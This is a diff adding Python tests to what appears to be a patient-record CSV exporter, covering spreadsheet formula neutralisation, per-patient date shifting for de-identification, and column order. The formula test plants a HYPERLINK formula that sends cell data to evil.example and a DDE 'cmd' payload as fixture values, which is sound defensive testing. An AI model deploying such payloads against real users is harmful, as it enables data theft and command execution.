@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import csv
+import datetime as dt
 import io
 import json
 import stat
@@ -200,6 +201,71 @@ def test_deidentified_csv_has_no_name_birth_date_record_id_or_exam_id() -> None:
     row = rows_of(text)[0]
     assert row["birth_year"] == "1978" and "family_name" not in row and "notes" not in row
     assert row["patient_id"].startswith("P-")
+
+
+@pytest.mark.parametrize("deidentified", [False, True], ids=["identified", "de-identified"])
+def test_text_a_spreadsheet_would_run_as_a_formula_is_neutralised(deidentified: bool) -> None:
+    document = demo_record().to_json_dict()
+    document["patient"]["family_name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    document["patient"]["given_name"] = "+Anna"
+    document["exams"][0]["examiner"] = "-2+3"
+    document["exams"][0]["notes"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    document["surgeries"][0]["procedure"] = "\tmicrodiscectomy"
+    record = record_from_document(document)
+    text = csv_text([record], Pseudonymiser(b"k" * 32) if deidentified else None)
+    for row in rows_of(text):
+        for name, cell in row.items():
+            if name not in ("days_since_surgery",):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    first = rows_of(text)[0]
+    if not deidentified:
+        assert first["family_name"] == "'" + document["patient"]["family_name"]
+        assert first["given_name"] == "'+Anna" and first["examiner"] == "'-2+3"
+        assert first["notes"] == "'" + document["exams"][0]["notes"]
+    # every field is quoted, so a cell cannot spill into its neighbours
+    assert text.removeprefix("\ufeff").startswith('"patient_id","')
+
+
+def test_negative_day_counts_stay_numbers() -> None:
+    rows = rows_of(csv_text([demo_record()]))
+    assert rows[0]["days_since_surgery"].startswith("-")
+    assert int(rows[0]["days_since_surgery"]) < 0
+
+
+def test_deidentified_dates_move_by_one_keyed_offset_per_patient_keeping_intervals() -> None:
+    keyed = Pseudonymiser(b"k" * 32)
+    plain, shifted = rows_of(csv_text(RECORDS)), rows_of(csv_text(RECORDS, keyed))
+    offsets: dict[str, set[int]] = {}
+    for before, after in zip(plain, shifted, strict=True):
+        moved = (dt.date.fromisoformat(after["exam_date"])
+                 - dt.date.fromisoformat(before["exam_date"])).days
+        offsets.setdefault(before["patient_id"], set()).add(moved)
+        assert after["days_since_surgery"] == before["days_since_surgery"]
+        if before["surgery_date"]:
+            assert (dt.date.fromisoformat(after["surgery_date"])
+                    - dt.date.fromisoformat(before["surgery_date"])).days == moved
+    assert all(len(found) == 1 for found in offsets.values())
+    shifts = {found.pop() for found in offsets.values()}
+    assert 0 not in shifts and all(abs(s) <= 365 for s in shifts)
+    assert len(shifts) > 1, "patients must not share one offset"
+    for record in RECORDS:
+        assert keyed.day_shift(record.patient.id) == Pseudonymiser(b"k" * 32).day_shift(
+            record.patient.id)
+    assert any(keyed.day_shift(r.patient.id) != Pseudonymiser(b"j" * 32).day_shift(r.patient.id)
+               for r in RECORDS)
+    text = csv_text([demo_record()], keyed)
+    assert all(exam.date.isoformat() not in text for exam in demo_record().exams)
+
+
+def test_the_deidentified_column_order_is_the_documented_stable_one() -> None:
+    expected = (ROOT / "tests" / "data" / "deidentified-columns.txt").read_text(
+        encoding="utf-8").split()
+    header = next(csv.reader(io.StringIO(csv_text([], Pseudonymiser(b"k" * 32)).removeprefix(
+        "\ufeff"))))
+    assert header == expected
+    page = (ROOT / "docs" / "csv-columns.md").read_text(encoding="utf-8")
+    positions = [page.index(f"| `{name}` |") for name in header]
+    assert positions == sorted(positions)
 
 
 def test_pseudonyms_are_stable_for_a_key_and_differ_between_keys() -> None:
